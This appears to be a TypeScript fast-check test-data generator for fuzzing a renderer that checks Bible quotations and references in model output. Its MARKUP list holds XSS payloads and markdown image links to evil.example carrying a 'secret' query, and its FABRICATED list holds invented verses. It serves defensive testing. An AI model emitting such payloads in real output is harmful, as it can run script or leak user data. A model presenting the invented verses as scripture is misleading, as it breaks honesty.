import fc from "fast-check";

// What a hostile or careless model may write, as pieces that fast-check puts together.

/** Words of the table, whole or cut, from either translation. */
export const GENUINE = [
  "In the beginning, God created the heavens and the earth.",
  "In the beginning God created the heaven and the earth",
  "For God so loved the world, that he gave his one and only Son",
  "For God so loved the world, that he gave his only begotten Son",
  "Jesus wept.",
  "The LORD is my shepherd; I shall not want.",
  "Yahweh is my shepherd; I shall lack nothing.",
  "I can do all things through Christ who strengthens me.",
  "For all have sinned, and fall short of the glory of God",
  "the disciples’ feet",
];

/** Words of no verse. */
export const FABRICATED = [
  "God helps those who help themselves every single day",
  "Cleanliness is next to godliness, says the Lord of hosts",
  "For God so loved the world, that he created the heavens and the earth",
  "The LORD is my shepherd who so loved the world that he wept",
  "Thou shalt trust thy assistant with all thy heart and soul",
  "In the beginning God wept... and all have sinned through Christ",
  "This too shall pass",
];

export const REFERENCES = [
  "John 3:16",
  "Genesis 1:1",
  "Gen. 1:1",
  "Psalm 23:1",
  "Romans 3:23",
  "Phil 4:13",
  "1 Cor. 13:4-7",
  "Jude 5",
];
const NO_REFERENCES = [
  "John 3:99",
  "Hezekiah 3:16",
  "2 Opinions 4:2",
  "Genesis 51:1",
  "1 Cor. 17:3",
  "Ps. 151:2",
  "Jn 22:1",
  "John chapter 3, verse 99",
  "Jude 2:1",
];
const MARKUP = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1) ",
  "<a href='javascript:alert(1)'>here</a>",
  "[here](javascript:alert(1))",
  "[here](java\u200bscript:alert(1))",
  "![pixel](https://evil.example/p.png?q=secret)",
  "![pixel][1]\n\n[1]: https://evil.example/p.png\n",
  "[a]: javascript:alert(1)\n",
  "javascript:alert(1)",
  "java`script:alert(1)",
  'java"script:alert(1)',
  "JaVaScRiPt&#58;alert(1)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;",
  "data:text/html;base64,PHNjcmlwdD4=",
  "https://evil.example/?q=1",
  "//evil.example/x",
  "<https://evil.example>",
  "```html\n<b>x</b>\n```\n",
  "\n> ",
  "\n# ",
  "\n| a | b |\n|---|---|\n",
  "**",
  "_",
  "`",
  "<",
  ">",
  "](",
  "![",
  "<!--",
  "-->",
  "onload=alert(1)",
  "\u202e",
  "\u0000",
  "\uD800",
  "\uE000",
  "😀",
  "ｊａｖａｓｃｒｉｐｔ：alert(1)",
];
const SLOTS = [
  "[[John 3:16]]",
  "[[John 3:16-17 KJV]]",
  "[[Psalm 23]]",
  "[[Psalm 119]]",
  "[[Acts 8:37]]",
  "[[John 3:99]]",
  "[[Hezekiah 3:16]]",
  "[[God helps those]]",
  "[[<script>alert(1)</script>]]",
  "[[John 3:16 [[Romans 8:28]]",
  "[[[John 3:16]]]",
  "[[",
  "]]",
  "[[ ]]",
  `[[${"John 3:16 ".repeat(12)}]]`,
  "[[S1]]",
  "[[S9]]",
];
const MARKS = [
  '"',
  '"',
  "'",
  "'",
  "“",
  "”",
  "‘",
  "’",
  "«",
  "»",
  "„",
  "''",
  "&quot;",
  "&ldquo;",
  "`",
];
const GLUE = [
  " ",
  " ",
  " ",
  ". ",
  ", ",
  "\n\n",
  "\n",
  " says ",
  ": ",
  " (",
  ") ",
  " — ",
  "! ",
  "; and ",
  "Word",
  "x",
];

const one = (list: readonly string[]) => fc.constantFrom(...list);
const words = one([...GENUINE, ...FABRICATED]);
const reference = one([...REFERENCES, ...REFERENCES, ...NO_REFERENCES]);

/** Pairs of quotation marks. */
const PAIRS = ['""', "“”", "‘’", "''", "«»", "„“"];
const UNEVEN = ['“"', "'\""];

/** The ways people write words with the place they are from. */
function cite(text: string, place: string, [open, close]: string): string[] {
  const quoted = `${open}${text}${close}`;
  return [
    `${place} says, ${quoted}`,
    `${quoted} (${place})`,
    `${quoted} — ${place}.`,
    `As it is written in ${place}: ${quoted}`,
    `\n> ${text}\n> — ${place}\n`,
    `**${place}**\n\n${quoted}`,
  ];
}

/** Every way of citing, each with another pair of marks, beginning with one of them. */
export function citations(text: string, place: string, first: number): string[] {
  const pair = (way: number) => PAIRS[(first + way) % PAIRS.length] ?? "“”";
  return cite(text, place, "“”").flatMap((_text, way) => cite(text, place, pair(way))[way] ?? []);
}

/** Ways of giving words as the text of a place without any marks. */
export function unmarkedCitations(text: string, place: string): string[] {
  return [
    `${place}: ${text}`,
    `${place} says ${text}`,
    `${place} clearly says that ${text}`,
    `${place} (WEB) reads: ${text}`,
    `${place} — ${text}`,
    `As we know, ${text} (${place}).`,
    `${text} (see ${place})`,
  ];
}

const unmarked = fc
  .tuple(words, reference, fc.nat(6))
  .map(([text, place, way]) => unmarkedCitations(text, place)[way]);
const citation = fc
  .tuple(words, reference, one([...PAIRS, ...UNEVEN]), fc.nat(5))
  .map(([text, place, marks, way]) => cite(text, place, marks)[way]);

/** A text of up to so many pieces. */
const textOf = (maxLength: number): fc.Arbitrary<string> =>
  fc
    .array(
      fc.oneof(
        { weight: 4, arbitrary: citation },
        { weight: 1, arbitrary: unmarked },
        { weight: 3, arbitrary: words },
        { weight: 3, arbitrary: one(MARKS) },
        { weight: 3, arbitrary: one(MARKUP) },
        { weight: 2, arbitrary: reference },
        { weight: 2, arbitrary: one(SLOTS) },
        { weight: 6, arbitrary: one(GLUE) },
      ),
      { minLength: 1, maxLength },
    )
    .map((pieces) => pieces.join(""));
export const hostileText = textOf(20);
export const shortHostileText = textOf(5);

/** Places to cut a text at, as shares of its length. */
export const cuts: fc.Arbitrary<number[]> = fc.array(fc.double({ min: 0, max: 1, noNaN: true }), {
  maxLength: 12,
});
